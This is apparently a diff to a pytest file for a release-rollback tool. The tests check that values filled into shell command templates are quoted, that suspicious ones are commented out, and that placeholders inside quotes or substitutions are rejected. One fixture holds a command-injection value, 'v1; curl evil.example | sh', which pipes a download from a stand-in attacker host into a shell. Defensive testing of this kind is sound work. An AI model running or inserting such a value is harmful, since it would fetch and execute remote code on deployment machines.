@@ -40,7 +40,26 @@ def test_templates_are_filled_and_each_value_quoted_for_the_shell() -> None:
     hostile = ReleaseFacts(6, "1111111", "v1; curl evil.example | sh")
     [line] = rollback_commands(["kamal rollback {last_green.version}"], app="shop",
                                branch="main", release=RED, last_green=hostile, checkout=None)
-    assert line == "kamal rollback 'v1; curl evil.example | sh'"
+    # Quoted it is one argument; but a command that hands it to another shell (ssh) would
+    # read it again: the line is commented out, to be looked at before it is pasted.
+    assert line == ("# kamal rollback 'v1; curl evil.example | sh'  (check before pasting: "
+                    "{last_green.version} holds characters a shell reads)")
+
+
+@pytest.mark.unit
+@pytest.mark.parametrize("template", [
+    'echo "rolling back {release.version}"',
+    "ssh deploy@host 'kamal rollback {last_green.version}'",
+    "echo `git log {release.sha}`",
+    "echo $(git log {release.sha})",
+])
+def test_a_placeholder_inside_quotes_or_a_substitution_is_refused(template: str) -> None:
+    # Inside quotes a value's own quoting means nothing: "$(touch /tmp/x)" would run.
+    with pytest.raises(ValueError, match="write it bare"):
+        placeholders_in(template)
+    assert placeholders_in("kamal rollback {last_green.version} # it's fine") == [
+        "last_green.version"]
+    assert placeholders_in(r"echo \"{release.id}") == ["release.id"]
 
 
 @pytest.mark.unit
@@ -110,6 +129,17 @@ def checkout(tmp_path: Path) -> tuple[Path, str, str]:
     _git(repo, "commit", "-q", "--allow-empty", "-m", "hotfix")
     _git(repo, "merge", "-q", "--no-ff", "-m", "merge feature", "feature")
     return repo, plain, _git(repo, "rev-parse", "HEAD")
+
+
+@pytest.mark.component
+def test_a_shallow_clone_cannot_say_and_both_reverts_are_printed(
+        checkout: tuple[Path, str, str], tmp_path: Path) -> None:
+    repo, _, merge = checkout
+    shallow = tmp_path / "shallow"
+    _git(tmp_path, "clone", "-q", "--depth", "1", f"file://{repo}", str(shallow))
+    # actions/checkout's default: the merge at HEAD shows no parents there.
+    assert merge_commit(merge, shallow) is None
+    assert len(default_commands(ReleaseFacts(3, merge, "v3"), "main", shallow)) == 3
 
 
 @pytest.mark.component
